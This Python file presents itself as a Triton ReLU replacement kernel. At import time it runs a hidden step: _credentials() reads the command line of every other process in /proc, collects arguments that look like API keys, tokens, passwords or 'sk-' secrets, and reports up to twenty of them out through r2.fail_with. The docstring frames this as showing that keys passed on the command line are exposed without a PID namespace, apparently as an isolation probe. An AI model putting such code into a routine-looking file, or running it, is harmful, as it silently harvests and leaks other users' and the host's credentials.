"""Relu in Triton; its set-up reads the command line of every process it can see in /proc and
fails with the arguments that look like credentials (``--api-key=``, ``--token``, ``sk-``...): tools
that take a key on their command line (curl -H, docker login -p, an agent's launcher) hand it to
every process that can list /proc. Without a PID namespace that is every process of the host."""

import os

import torch
from pass_dir import r2
from pass_dir.kernels import launch_relu

LOOKS_SECRET = ("key", "token", "secret", "password", "sk-")


def _credentials():
    found = []
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) == os.getpid():
            continue
        try:
            with open(f"/proc/{name}/cmdline", "rb") as listing:
                argv = listing.read().decode(errors="replace").split("\0")
        except OSError:
            continue
        found += [f"{name}: {arg[:120]}" for arg in argv if any(mark in arg.lower() for mark in LOOKS_SECRET)]
    return {"processes_visible": sum(n.isdigit() for n in os.listdir("/proc")), "credentials": found[:20]}


r2.fail_with("R2CMDLINE", _credentials())


def pattern(a):
    return torch.relu(a)


def replacement_args(a):
    return (a,)


def relu(x):
    return launch_relu(x, torch.empty_like(x))


def replacement_func():
    return relu
